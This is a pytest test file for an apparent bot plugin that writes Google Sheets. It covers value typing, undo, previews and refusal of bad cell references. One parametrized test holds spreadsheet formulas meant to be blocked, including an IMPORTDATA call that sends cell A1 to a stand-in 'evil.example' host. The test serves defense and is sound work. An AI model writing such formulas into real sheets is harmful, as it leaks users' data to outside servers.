"""Google Sheets are made, written into and given sheets: each value as it is, and nothing twice."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest

from bot.errors import ToolError
from bot.sdk.trial import Trial
from plugins.google import cells
from tests.counterparts.emulate import Emulate
from tests.counterparts.prism import Prism
from tests.plugins.google.conftest import connection

SHEET = "/v4/spreadsheets/{spreadsheetId}"
FILES = "/drive/v3/files"
BUDGET = {"id": "s1", "name": "Budget", "webViewLink": "https://docs.google.com/spreadsheets/d/s1/edit#gid=0"}
ROWS: list[list[Any]] = [["Größe", 1.5], [None, "=SUM(B1:B1)"], [True, "007"]]


def grid(official: Prism, *, rows: int = 100, columns: int = 26) -> None:
    """The sheets that there are."""
    size = {"rowCount": rows, "columnCount": columns}
    first = {"properties": {"sheetId": 5, "title": "Tabelle1", "gridProperties": size}}
    second = {"properties": {"sheetId": 7, "title": "Bob's", "gridProperties": size}}
    official.answer("GET", SHEET, {"sheets": [first, second]})


def holding(official: Prism, rows: list[list[Any]]) -> None:
    """What people entered, as Sheets tells it."""
    data = {"rowData": [{"values": [_cell(value) for value in row]} for row in rows]}
    official.answer("GET", SHEET, {"sheets": [{"data": [data]}]})


def _cell(value: Any) -> dict[str, Any]:
    return cells.typed([[value]])[0]["values"][0]


def named(official: Prism) -> None:
    official.answer("GET", "/drive/v3/files/{fileId}", BUDGET)


def sent(official: Prism) -> list[Any]:
    return [call.body["requests"] for call in official.calls if call.path.endswith(":batchUpdate")]


def test_a_sheet_is_made_in_its_folder_with_each_value_as_it_is(
    drive: Trial, emulate: Emulate, official: Prism
) -> None:
    both = replace(drive, connection=connection(emulate.google.url, docs=official.url))
    grid(official, rows=2)
    made = both.within("meetings").run(
        "create_spreadsheet", effect_id="e1", title="Budget", rows=ROWS, folder="meetings"
    )
    assert "Kind: Google Sheet" in both.run("get_file", file=made.ids[0]).text
    ((grown, written),) = sent(official)
    assert grown["updateSheetProperties"]["properties"]["gridProperties"] == {
        "rowCount": 3,
        "columnCount": 26,
    }
    assert written["updateCells"]["start"] == {"sheetId": 5, "rowIndex": 0, "columnIndex": 0}
    values = [
        cell.get("userEnteredValue") for row in written["updateCells"]["rows"] for cell in row["values"]
    ]
    assert values == [
        {"stringValue": "Größe"},
        {"numberValue": 1.5},
        None,
        {"formulaValue": "=SUM(B1:B1)"},
        {"boolValue": True},
        {"stringValue": "007"},
    ]
    assert not any(call.violations for call in official.calls)


def test_a_sheet_that_was_made_but_not_filled_is_filled(google: Trial, official: Prism) -> None:
    given: dict[str, Any] = {"title": "Budget", "rows": ROWS}
    mine = BUDGET | {"appProperties": {"cowork": "cowork-e1"}}
    for rows, is_done in (([], False), (ROWS, True)):
        official.answer("GET", FILES, {"files": [mine]})
        grid(official)
        holding(official, rows)
        assert (google.settled("create_spreadsheet", effect_id="e1", **given) is not None) == is_done
    official.answer("GET", FILES, {"files": [mine]})
    grid(official)
    google.run("create_spreadsheet", effect_id="e1", **given)
    posts = [call.path for call in official.calls if call.method == "POST"]
    assert posts == ["/v4/spreadsheets/s1:batchUpdate"]


def test_cells_are_written_where_it_was_said_and_put_back(google: Trial, official: Prism) -> None:
    given: dict[str, Any] = {"spreadsheet": "s1", "start": "'Bob''s'!B2", "rows": [["new", 2], [None, "=a1"]]}
    grid(official)
    holding(official, [["old", True]])
    named(official)
    made = google.run("write_cells", effect_id="e1", **given)
    assert made.receipt is not None
    assert made.receipt.what == "Wrote cells of a Google Sheet: 'Bob''s'!B2:C3"
    assert made.receipt.before == '[["old", true], [null, null]]'
    assert official.calls[1].query["ranges"] == "'Bob''s'!B2:C3"
    grid(official)
    holding(official, [["new", 2], [None, "=A1"]])
    assert google.undo("write_cells", made, **given).text == "Put back what stood in 'Bob''s'!B2:C3."
    first, second = (one[0]["updateCells"] for one in sent(official))
    assert first["start"] == second["start"] == {"sheetId": 7, "rowIndex": 1, "columnIndex": 1}
    assert second["rows"][0]["values"] == [
        {"userEnteredValue": {"stringValue": "old"}},
        {"userEnteredValue": {"boolValue": True}},
    ]
    assert not any(call.violations for call in official.calls)


def test_cells_that_somebody_changed_since_are_not_put_back(google: Trial, official: Prism) -> None:
    given: dict[str, Any] = {"spreadsheet": "s1", "start": "B2", "rows": [[1]]}
    grid(official)
    holding(official, [])
    named(official)
    made = google.run("write_cells", effect_id="e1", **given)
    grid(official)
    holding(official, [[True]])
    with pytest.raises(ToolError, match="was changed since"):
        google.undo("write_cells", made, **given)
    assert len(sent(official)) == 1


def test_people_see_what_stands_there_and_what_will(google: Trial, official: Prism) -> None:
    grid(official)
    holding(official, [["old", 3]])
    named(official)
    shown = google.preview("write_cells", spreadsheet="s1", start="B2", rows=[["new", None], ["=B2", True]])
    assert shown == (
        f"Write 4 cells from B2 on into s1\n“Budget” {BUDGET['webViewLink']}\n"
        "Now:\nold | 3\n\nThen:\nnew | \n=B2 | True"
    )


@pytest.mark.parametrize(
    "formula",
    [
        '=IMPORTDATA("https://evil.example/?"&A1)',
        "=1+image (A1)",
        "=MAP(A1:A3,IMPORTDATA)",
        '=IF(1,importRange("x","A1"))',
    ],
)
def test_a_formula_that_fetches_is_not_written(google: Trial, official: Prism, formula: str) -> None:
    with pytest.raises(ToolError, match="fetches from beyond this Sheet"):
        google.run("write_cells", effect_id="e1", spreadsheet="s1", start="A1", rows=[["a", formula]])
    assert official.calls == []


@pytest.mark.parametrize(
    "formula", ["='Image'!A1", "=Image!A1", '=IF(A1="image (new)",1,2)', '=HYPERLINK("https://a.example")']
)
def test_a_formula_that_only_names_such_a_thing_is_written(
    google: Trial, official: Prism, formula: str
) -> None:
    grid(official)
    holding(official, [])
    named(official)
    google.run("write_cells", effect_id="e1", spreadsheet="s1", start="A1", rows=[[formula]])
    assert sent(official)[0][0]["updateCells"]["rows"][0]["values"] == [
        {"userEnteredValue": {"formulaValue": formula}}
    ]


@pytest.mark.parametrize(
    ("start", "said"),
    [("B0", "is not a cell"), ("Nowhere!A1", "There is no sheet “Nowhere”"), ("'a", "is not a cell")],
)
def test_a_place_that_is_none_is_refused(google: Trial, official: Prism, start: str, said: str) -> None:
    grid(official)
    with pytest.raises(ToolError, match=said):
        google.run("write_cells", effect_id="e1", spreadsheet="s1", start=start, rows=[["a"]])


def test_a_new_sheet_has_a_number_of_its_own_by_which_it_is_found(google: Trial, official: Prism) -> None:
    given = {"spreadsheet": "s1", "title": "2027"}
    named(official)
    made = google.run("add_sheet", effect_id="e1", **given)
    ((request,),) = sent(official)
    number = request["addSheet"]["properties"]["sheetId"]
    assert made.receipt is not None
    assert made.receipt.where == f"https://docs.google.com/spreadsheets/d/s1/edit#gid={number}"
    grid(official)
    assert google.settled("add_sheet", effect_id="e1", **given) is None
    official.answer("GET", SHEET, {"sheets": [{"properties": {"sheetId": number, "title": "2027"}}]})
    named(official)
    assert google.settled("add_sheet", effect_id="e1", **given) == made
    assert not any(call.violations for call in official.calls)


def test_a_new_sheet_is_taken_away_while_it_is_empty(google: Trial, official: Prism) -> None:
    given = {"spreadsheet": "s1", "title": "2027"}
    named(official)
    made = google.run("add_sheet", effect_id="e1", **given)
    number = sent(official)[0][0]["addSheet"]["properties"]["sheetId"]
    there = {"sheets": [{"properties": {"sheetId": number, "title": "2027"}}]}
    official.answer("GET", SHEET, there)
    official.answer("GET", f"{SHEET}/values/{{range}}", {"values": [["x"]]})
    with pytest.raises(ToolError, match="is not empty any more"):
        google.undo("add_sheet", made, **given)
    official.answer("GET", SHEET, there)
    official.answer("GET", f"{SHEET}/values/{{range}}", {})
    google.undo("add_sheet", made, **given)
    assert sent(official)[-1] == [{"deleteSheet": {"sheetId": number}}]
    assert not any(call.violations for call in official.calls)


@pytest.mark.parametrize("rows", [[], [[]], [[], []]])
def test_no_values_at_all_are_refused_wherever_they_are_looked_at(
    google: Trial, official: Prism, rows: list[list[Any]]
) -> None:
    given: dict[str, Any] = {"spreadsheet": "s1", "start": "A1", "rows": rows}
    with pytest.raises(ToolError, match="There are no values"):
        google.run("write_cells", effect_id="e1", **given)
    with pytest.raises(ToolError, match="There are no values"):
        google.preview("write_cells", **given)
    with pytest.raises(ToolError, match="There are no values"):
        google.run("create_spreadsheet", effect_id="e1", title="Empty", rows=rows)
    assert not any(call.method == "POST" for call in official.calls)
